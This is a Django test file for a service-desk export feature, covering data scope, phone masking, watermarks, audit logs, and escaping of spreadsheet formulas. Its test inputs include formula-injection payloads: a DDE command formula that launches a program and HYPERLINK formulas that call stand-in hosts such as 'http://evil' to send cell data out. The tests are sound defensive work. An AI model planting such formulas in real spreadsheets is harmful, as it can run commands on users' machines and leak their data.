"""Exports (B5, H4, J4; SECURITY-CASES 15–16): scope, masking, formula escaping, watermark, audit."""

import io

from django.contrib.auth.models import Permission
from openpyxl import load_workbook

from anxin.audit.exports import safe_cell
from anxin.audit.models import AuditLog
from anxin.customers import services as customer_services
from anxin.workorders.tests.factories import make_order


def _rows(response):
    sheet = load_workbook(io.BytesIO(response.content)).worksheets[0]
    return [[c for c in row] for row in sheet.iter_rows(values_only=True)]


def _grant(user, *codenames):
    user.user_permissions.add(*Permission.objects.filter(codename__in=codenames))


def test_formula_looking_text_is_written_as_text():
    for text in ("=cmd|' /C calc'!A0", "@SUM(1+1)", "+1", "-1", "\tx", '=HYPERLINK("http://x/?"&A1)'):
        assert safe_cell(text) == "'" + text
    assert safe_cell("王芳") == "王芳" and safe_cell(None) == ""


def test_control_characters_never_break_an_export(world, client_for):
    # given an order title and a customer address holding control characters a sheet cannot store (NUL: PostgreSQL
    # refuses it on input, see issue 13)
    make_order(world, title="漏水\u0002急", caller_number="13800138000")
    customer_services.customer_update(customer=world.customer_a, actor=world.agent_a,
                                      data={"address_detail": "张杨路\u00018号"})
    _grant(world.dispatcher_a, "export_workorders", "export_customers")
    # when both exports run, then both answer a workbook with the text kept and the controls dropped
    orders = client_for(world.dispatcher_a).get("/orders/export/")
    customers = client_for(world.dispatcher_a).get("/customers/export/")
    assert orders.status_code == 200 and customers.status_code == 200
    assert any("漏水急" in str(cell) for row in _rows(orders) for cell in row)
    assert any("张杨路8号" in str(cell) for row in _rows(customers) for cell in row)
    assert safe_cell("a\x00b\x1fc\td") == "ab" + "c\td"


def test_queue_export_is_scoped_filtered_watermarked_and_audited(world, client_for):
    # given orders in both sites, one with a formula-looking title
    make_order(world, title="=HYPERLINK(\"http://evil\")", caller_number="13800138000")
    make_order(world, type="consultation", title="咨询")
    make_order(world, actor=world.agent_b, customer=world.customer_b, title="B站的单")
    # when a site-A dispatcher with the export right exports repairs
    _grant(world.dispatcher_a, "export_workorders")
    response = client_for(world.dispatcher_a).get("/orders/export/?type=repair")
    # then only site A's repairs are in it, as text, under a watermark naming the exporter
    assert response.status_code == 200 and response["Content-Disposition"].startswith("attachment;")
    rows = _rows(response)
    assert "dispatcher_a" in rows[0][0]
    data = rows[2:]
    assert len(data) == 1
    assert data[0][5] == "'=HYPERLINK(\"http://evil\")"
    assert data[0][7] == "13800138000"
    log = AuditLog.objects.get(action="export", actor=world.dispatcher_a)
    assert log.data == {"filters": {"type": "repair"}, "rows": 1}


def test_export_masks_phones_for_a_role_without_the_phone_right(world, client_for):
    make_order(world, caller_number="13800138000")
    _grant(world.warehouse_a, "export_workorders")
    rows = _rows(client_for(world.warehouse_a).get("/orders/export/"))
    assert rows[2][7] == "138****8000"
    assert not any("13800138000" in str(cell) for row in rows for cell in row)


def test_export_needs_the_right(world, client_for):
    assert client_for(world.agent_a).get("/orders/export/").status_code == 403
    assert client_for(world.agent_a).get("/customers/export/").status_code == 403
    assert client_for(world.tech_a).get("/orders/export/").status_code == 403
    assert not AuditLog.objects.filter(action="export").exists()


def test_customer_export_by_manager_covers_the_scope(world, client_for):
    customer_services.customer_create(actor=None, site=world.site_a, name="@SUM(1+1)", contacts=[{"phone": "13700000001"}])
    rows = _rows(client_for(world.manager).get("/customers/export/"))
    names = [r[0] for r in rows[2:]]
    assert sorted(names) == sorted(["'@SUM(1+1)", "王芳", "李强"])
    assert AuditLog.objects.filter(action="export", object_type="customers.customer").exists()
